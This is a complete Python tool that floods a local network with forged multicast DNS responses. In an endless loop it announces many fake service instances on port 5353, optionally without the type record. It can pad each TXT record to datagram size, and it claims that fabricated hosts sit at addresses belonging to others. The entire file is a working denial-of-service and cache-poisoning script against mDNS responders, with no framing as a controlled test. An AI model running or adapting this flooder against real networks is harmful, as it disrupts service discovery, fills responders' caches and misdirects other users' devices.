"""Floods a local network with answers over multicast DNS (RFC 6762 §6): many instances of a type, each complete, or
without the record that says of which type they are, which every responder keeps. With `--large` each has as much text as a
datagram of multicast DNS holds, and says of a host at an address of somebody else that it is there."""

import socket
import struct
import sys
import time


def name(text: str) -> bytes:
    labels = text.rstrip(".").split(".")
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def record(of: str, kind: int, data: bytes, flush: int = 0x8000) -> bytes:
    return name(of) + struct.pack("!HHIH", kind, 1 | flush, 120, len(data)) + data


# Strings of 255 bytes, up to a datagram of 9,000 bytes (RFC 6762 §17).
LARGE = b"\x09kind=read" + 33 * (b"\xff" + b"x" * 255)


def answer(kind: str, number: int, port: int, is_whole: bool, text: bytes) -> bytes:
    instance, host = f"flood-{number}.{kind}", f"flood-{number}.local"
    address = bytes([10, 77, 1 + number // 250 % 250, 1 + number % 250])
    records = [
        *([record(kind, 12, name(instance), 0)] if is_whole else []),
        record(instance, 33, struct.pack("!HHH", 0, 0, port) + name(host)),
        record(instance, 16, text),
        record(host, 1, address),
    ]
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def main() -> None:
    kind, local, count, is_whole = sys.argv[1], sys.argv[2], int(sys.argv[3]), "--no-type" not in sys.argv
    text = LARGE if "--large" in sys.argv else b"\x09kind=read"
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.bind((local, 5353))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(local))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    while True:
        for number in range(count):
            sender.sendto(answer(f"{kind}.local", number, 8888, is_whole, text), ("224.0.0.251", 5353))
            if number % 50 == 49:
                time.sleep(0.005)
        print("sent", flush=True)


if __name__ == "__main__":
    main()
